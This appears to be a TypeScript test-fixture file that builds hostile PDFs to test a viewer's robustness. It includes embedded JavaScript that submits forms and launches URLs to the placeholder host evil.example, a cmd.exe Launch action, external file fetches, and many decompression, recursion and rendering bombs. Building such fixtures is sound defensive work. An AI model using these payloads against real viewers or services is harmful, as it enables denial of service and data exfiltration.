import { deflateSync } from 'node:zlib';
import { buildPdf, join, stream } from './build-pdf.ts';

/** A page with this content, whose resources may refer to `objects` from number 5. */
function page(content: string | Uint8Array, resources = '', objects: (string | Uint8Array)[] = []) {
  return buildPdf({
    page: `/Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> ${resources} >>`,
    objects: [typeof content === 'string' ? stream(content, '', 1) : content, ...objects],
  });
}

/** Deflated `unit` repeated to about `bytes`, without holding it in memory more than once. */
function bomb(unit: string, bytes: number, dict = ''): Uint8Array {
  const once = deflateSync(Buffer.from(unit.repeat(Math.ceil(bytes / unit.length))), { level: 9 });
  const twice = deflateSync(once, { level: 9 });
  return join(
    `<< /Length ${twice.length} /Filter [/FlateDecode /FlateDecode] ${dict} >>\nstream\n`,
    twice,
    '\nendstream',
  );
}

const TEXT = 'BT /F 20 Tf 60 700 Td (Hostile resume) Tj ET\n';

/** Forms that each draw the next ten times: 10^9 drawings. */
const FORM_BOMB = Array.from({ length: 9 }, (_, level) =>
  stream(
    level === 8 ? '0 0 m 500 500 l S' : '/X Do '.repeat(10),
    `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X ${level + 6} 0 R >> >>`,
  ),
);

const NESTED_GROUPS = Array.from({ length: 400 }, (_, level) =>
  stream(
    level === 399 ? '0 0 500 500 re f' : '/G gs /X Do',
    `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Group << /S /Transparency /I true /K true >> /Resources << /ExtGState << /G << /ca 0.5 >> >> /XObject << /X ${level + 6} 0 R >> >>`,
  ),
);

const image = (width: number, height: number) =>
  `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceGray`;

/**
 * PDFs that try to run scripts, to fetch, or to take all of a viewer's time or memory. Most are
 * refused on upload; a viewer must bear them all the same.
 */
export const HOSTILE_PDFS: Record<string, () => Uint8Array> = {
  'scripts and actions': () =>
    buildPdf({
      catalog:
        '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/a"\\)) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("https://evil.example/b"\\)) >> >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>',
      page: '/Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /AA << /O << /S /JavaScript /JS (app.alert\\(3\\)) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (https://evil.example/c) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (cmd.exe) >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (javascript:alert\\(4\\)) /Rect [50 50 200 80] /AA << /F << /S /JavaScript /JS (app.alert\\(5\\)) >> >> >>]',
      objects: [stream(TEXT)],
    }),
  'external files': () =>
    page(`${TEXT}/I Do /R Do`, '/XObject << /I 5 0 R /R 6 0 R >>', [
      stream('', `${image(10, 10)} /F << /FS /URL /F (https://evil.example/i.png) >> /FFilter /FlateDecode`),
      stream(
        '',
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (https://evil.example/r.pdf) /Page 0 >>',
      ),
    ]),
  'an image of 900 million pixels': () =>
    page(`${TEXT}q 500 0 0 500 50 50 cm /I Do Q`, '/XObject << /I 5 0 R >>', [
      bomb('\0', 500_000_000, image(30_000, 30_000)),
    ]),
  'sixty images of 30 million pixels': () =>
    page(
      TEXT + Array.from({ length: 60 }, (_, at) => `q 500 0 0 500 50 50 cm /I${at} Do Q\n`).join(''),
      `/XObject << ${Array.from({ length: 60 }, (_, at) => `/I${at} ${at + 5} 0 R`).join(' ')} >>`,
      Array.from({ length: 60 }, () => bomb('\0', 5000 * 6000, image(5000, 6000))),
    ),
  'two million operators': () => page(bomb('1 0 0 RG 0 0 m 500 500 l 9 9 m 400 1 l S\n', 80_000_000)),
  'a path of ten million points': () => page(bomb('1 2 l 500 700 l ', 80_000_000)),
  'an endless content stream': () => page(bomb(' ', 500_000_000)),
  'a text of fifty million characters': () =>
    buildPdf({
      page: '/Contents [4 0 R 5 0 R 6 0 R] /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>',
      objects: [stream('BT /F 2 Tf 60 700 Td ('), bomb('a', 50_000_000), stream(') Tj ET')],
    }),
  'a million short texts': () => page(bomb('BT /F 2 Tf 6 7 Td (ab) Tj ET\n', 29_000_000)),
  'forms that draw a billion lines': () => page(`${TEXT}/X Do`, '/XObject << /X 5 0 R >>', FORM_BOMB),
  'four hundred nested groups': () => page(`${TEXT}/X Do`, '/XObject << /X 5 0 R >>', NESTED_GROUPS),
  'patterns within patterns': () =>
    page(
      `${TEXT}/Pattern cs /P scn 0 0 600 800 re f`,
      '/Pattern << /P 5 0 R >>',
      Array.from({ length: 12 }, (_, level) =>
        stream(
          level === 11 ? '0 0 .1 .1 re f' : '/Pattern cs /P scn 0 0 9000 9000 re f '.repeat(9),
          `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9000 9000] /XStep .01 /YStep .01 /Resources << /Pattern << /P ${level + 6} 0 R >> >>`,
        ),
      ),
    ),
  'a shading of a slow function': () =>
    page(`${TEXT}/S sh`, '/Shading << /S 5 0 R >>', [
      '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 99999 0 99999] /Function 6 0 R >>',
      stream(
        `{ ${'2 copy sin exch cos mul abs 1 add sqrt pop '.repeat(20_000)} add dup dup }`,
        '/FunctionType 4 /Domain [0 99999 0 99999] /Range [0 1 0 1 0 1]',
        1,
      ),
    ]),
  'a page of a billion points': () =>
    buildPdf({
      page: '/MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R',
      objects: [stream('0 0 m 1 1 l S')],
    }),
  'a page without height': () => buildPdf({ page: '/MediaBox [0 0 600 0.0001]' }),
  'a font that draws itself': () =>
    buildPdf({
      page: '/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>',
      objects: [
        stream('BT /F 9 Tf 60 700 Td (aaaaaaaaaa) Tj ET'),
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F 5 0 R >> >> >>',
        stream(`9 0 d0 ${'BT /F 9 Tf (aaaaaaaaaa) Tj ET '.repeat(9)}`),
      ],
    }),
  'no PDF at all': () => new Uint8Array(Buffer.from('<script>alert(1)</script>'.repeat(100))),
};
